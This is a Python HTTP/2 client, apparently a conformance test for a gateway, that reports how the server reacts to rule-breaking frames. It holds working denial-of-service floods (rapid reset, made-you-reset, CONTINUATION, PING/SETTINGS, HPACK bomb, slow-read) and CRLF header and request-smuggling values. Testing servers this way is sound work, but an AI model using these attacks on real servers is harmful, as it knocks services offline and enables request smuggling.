"""An HTTP/2 client that breaks the rules on purpose, frame by frame, over a plain connection with prior knowledge.

usage: http2.py HOST:PORT CASE. Prints one JSON object: the status or reset code of each stream, the code of a GOAWAY, and
whether the connection was closed.
"""

import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = [(":method", "GET"), (":scheme", "http"), (":authority", "test"), (":path", "/")]
POST = [(":method", "POST"), (":scheme", "http"), (":authority", "test"), (":path", "/")]


class Client:
    def __init__(self, address, settings=None):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.buffer = b""
        self.seen = {"streams": {}, "resets": {}, "goaway": None, "closed": False, "pings": 0, "data": 0}
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def send(self, data):
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            self.seen["closed"] = True
            return False

    def headers(self, stream, fields, end=True, end_headers=True):
        frame = HeadersFrame(stream, data=self.encoder.encode(fields, huffman=False))
        if end:
            frame.flags.add("END_STREAM")
        if end_headers:
            frame.flags.add("END_HEADERS")
        return frame.serialize()

    def read(self, seconds, until=lambda seen: False):
        ends = time.monotonic() + seconds
        while time.monotonic() < ends and not until(self.seen):
            self.socket.settimeout(max(0.01, ends - time.monotonic()))
            try:
                data = self.socket.recv(1 << 16)
            except (TimeoutError, socket.timeout):
                break
            except OSError:
                self.seen["closed"] = True
                break
            if not data:
                self.seen["closed"] = True
                break
            self.buffer += data
            while len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
                self.buffer = self.buffer[9 + length :]
                self.take(frame)
        return self.seen

    def take(self, frame):
        streams = self.seen["streams"]
        if isinstance(frame, HeadersFrame):
            fields = dict(self.decoder.decode(frame.data))
            streams.setdefault(str(frame.stream_id), fields.get(":status"))
        elif isinstance(frame, RstStreamFrame):
            streams.setdefault(str(frame.stream_id), "reset")
            self.seen["resets"][str(frame.stream_id)] = frame.error_code
        elif isinstance(frame, GoAwayFrame):
            self.seen["goaway"] = frame.error_code
        elif isinstance(frame, DataFrame):
            self.seen["data"] += len(frame.data)
        elif isinstance(frame, PingFrame):
            self.seen["pings"] += 1
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())


def is_over(seen):
    return seen["goaway"] is not None or "1" in seen["streams"]


def one(address, fields, data=None):
    client = Client(address)
    client.send(client.headers(1, fields, end=data is None))
    if data is not None:
        client.send(DataFrame(1, data=data, flags=["END_STREAM"]).serialize())
    return client.read(10, is_over)


def flood(address, frames, count, batch=200):
    """Sends `frames(client, index)` until the gateway has had enough or all are sent."""
    client = Client(address)
    sent = 0
    while sent < count and not client.seen["closed"] and client.seen["goaway"] is None:
        if not client.send(b"".join(frames(client, index) for index in range(sent, min(sent + batch, count)))):
            break
        sent += batch
        client.read(0.001)
    seen = client.read(3, lambda seen: seen["goaway"] is not None or seen["closed"])
    return {**seen, "sent": sent}


def reset_at_once(client, index):
    stream = 2 * index + 1
    return client.headers(stream, GET) + RstStreamFrame(stream, error_code=8).serialize()


def made_you_reset(client, index):
    # A window update of 0 is an error of the stream: the gateway must reset it, and so does the attacker's work for him.
    stream = 2 * index + 1
    return client.headers(stream, POST, end=False) + WindowUpdateFrame(stream, window_increment=1).serialize()[:-4] + b"\0" * 4


def continuation(client, index):
    if index == 0:
        return client.headers(1, GET, end_headers=False)
    return ContinuationFrame(1, data=b"\x00\x01a" + b"\x7f\x01" + b"b" * 128).serialize()


def empty_data(client, index):
    return client.headers(1, POST, end=False) if index == 0 else DataFrame(1, data=b"").serialize()


def bomb(address):
    client = Client(address)
    value = "x" * 4000
    client.send(client.headers(1, GET + [("x-bomb", value)]))
    client.read(5, is_over)
    # The value stands in the dynamic table now; each further mention is one byte.
    for stream in (3, 5, 7):
        client.send(client.headers(stream, GET + [("x-bomb", value)] * 3000))
    return client.read(5, lambda seen: seen["goaway"] is not None or "7" in seen["streams"])


def deaf(address):
    """Asks for a large answer and never opens its window."""
    client = Client(address, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    client.send(client.headers(1, [*GET[:3], (":path", "/large")]))
    began = time.monotonic()
    seen = client.read(15, lambda seen: "1" in seen["resets"] or seen["closed"])
    return {**seen, "seconds": time.monotonic() - began}


def silent(address):
    """One request; then says nothing more, not even to a GOAWAY or a PING."""
    client = Client(address)
    client.send(client.headers(1, GET))
    client.read(10, is_over)
    print("asked", flush=True)
    began = time.monotonic()
    client.take = lambda frame: None
    seen = client.read(30, lambda seen: seen["closed"])
    return {**seen, "seconds": time.monotonic() - began}


def two(address):
    client = Client(address)
    client.send(b"".join(client.headers(stream, GET) for stream in (1, 3, 5)))
    return client.read(10, lambda seen: len(seen["streams"]) == 3)


CASES = {
    "get": lambda address: one(address, GET),
    "three": two,
    "upper-case": lambda address: one(address, GET + [("X-Upper", "1")]),
    "connection": lambda address: one(address, GET + [("connection", "keep-alive")]),
    "transfer-encoding": lambda address: one(address, GET + [("transfer-encoding", "chunked")]),
    "te": lambda address: one(address, GET + [("te", "gzip")]),
    "upgrade": lambda address: one(address, GET + [("upgrade", "websocket")]),
    "newline": lambda address: one(address, GET + [("x-value", "a\r\nx-smuggled: 1")]),
    "nul": lambda address: one(address, GET + [("x-value", "a\0b")]),
    "newline-in-name": lambda address: one(address, GET + [("x-a\r\nx-b", "1")]),
    "empty-name": lambda address: one(address, GET + [("", "1")]),
    "two-paths": lambda address: one(address, GET + [(":path", "/other")]),
    "late-pseudo": lambda address: one(address, GET[:3] + [("x-a", "1"), (":path", "/")]),
    "no-path": lambda address: one(address, GET[:3]),
    "no-method": lambda address: one(address, GET[1:]),
    "space-in-path": lambda address: one(address, GET[:3] + [(":path", "/a b HTTP/1.1\r\nHost: x")]),
    "other-host": lambda address: one(address, GET + [("host", "other")]),
    "no-authority": lambda address: one(address, [GET[0], GET[1], GET[3]]),
    "short": lambda address: one(address, POST + [("content-length", "5")], b"abc"),
    "long": lambda address: one(address, POST + [("content-length", "3")], b"abcdef"),
    "two-lengths": lambda address: one(address, POST + [("content-length", "3"), ("content-length", "4")], b"abc"),
    "blank-before": lambda address: one(address, GET + [("x-api-key", " K")]),
    "blank-behind": lambda address: one(address, GET + [("x-api-key", "K\t")]),
    "silent": lambda address: silent(address),
    "connect": lambda address: one(address, [(":method", "CONNECT"), (":authority", "test:443")]),
    "rapid-reset": lambda address: flood(address, reset_at_once, 20_000),
    "made-you-reset": lambda address: flood(address, made_you_reset, 20_000),
    "continuation": lambda address: flood(address, continuation, 100_000),
    "empty-data": lambda address: flood(address, empty_data, 200_000),
    "settings": lambda address: flood(address, lambda *_: SettingsFrame(0).serialize(), 100_000),
    "ping": lambda address: flood(address, lambda *_: PingFrame(0, opaque_data=b"12345678").serialize(), 100_000),
    "bomb": bomb,
    "deaf": deaf,
}

if __name__ == "__main__":
    print(json.dumps(CASES[sys.argv[2]](sys.argv[1])))
